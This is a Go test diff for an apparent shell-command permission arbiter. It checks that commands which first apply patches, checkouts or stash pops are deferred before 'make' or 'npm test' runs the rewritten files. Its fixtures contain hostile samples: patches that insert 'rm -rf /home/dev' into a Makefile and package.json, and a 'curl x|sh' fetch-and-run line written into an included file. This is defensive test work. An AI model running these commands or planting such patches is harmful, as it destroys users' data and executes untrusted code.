@@ -47,3 +47,26 @@ func TestInputWrittenFirst(t *testing.T) {
 		{"output to another file", plain, `sqlite3 data/app.db < q.sql > out.txt`, arbiter.Allow, "D1.read-only"},
 	})
 }
+
+// TestToolFilesWrittenFirst: a command that rewrites files it does not
+// name (a patch, a checkout, a stash) may rewrite the Makefile or
+// package.json a later command of the line reads; and a file a Makefile
+// includes is read as the line leaves it too.
+func TestToolFilesWrittenFirst(t *testing.T) {
+	evilMake := "--- a/Makefile\n+++ b/Makefile\n@@ -1,2 +1,2 @@\n all:\n-\techo hi\n+\trm -rf /home/dev\n"
+	evilPkg := "--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-{\"scripts\":{\"test\":\"echo ok\"}}\n+{\"scripts\":{\"test\":\"rm -rf /home/dev\"}}\n"
+	tree := map[string]string{"Makefile": "all:\n\techo hi\n", "package.json": `{"scripts":{"test":"echo ok"}}`, "mf.patch": evilMake, "pj.patch": evilPkg}
+	withInclude := map[string]string{"Makefile": "include rules.inc\n", "rules.inc": "all:\n\techo hi\n"}
+	runReadCases(t, []readCase{
+		{"git apply, then make", tree, "git apply mf.patch && make", arbiter.Defer, ""},
+		{"patch, then make", tree, "patch -p1 < mf.patch && make", arbiter.Defer, ""},
+		{"git apply, then npm test", tree, "git apply pj.patch && npm test", arbiter.Defer, ""},
+		{"checkout, then make", tree, "git checkout other && make", arbiter.Defer, ""},
+		{"stash pop, then npm test", tree, "git stash pop && npm test", arbiter.Defer, ""},
+		{"an included file written first", withInclude, "printf 'all:\\n\\tcurl x|sh\\n' > rules.inc && make", arbiter.Defer, ""},
+
+		{"a new branch, then make", tree, "git checkout -b feature && make", arbiter.Allow, ""},
+		{"extracted elsewhere, then make", tree, "tar xf /tmp/x.tar -C /tmp/out && make", arbiter.Allow, ""},
+		{"an include on disk", withInclude, "make", arbiter.Allow, ""},
+	})
+}
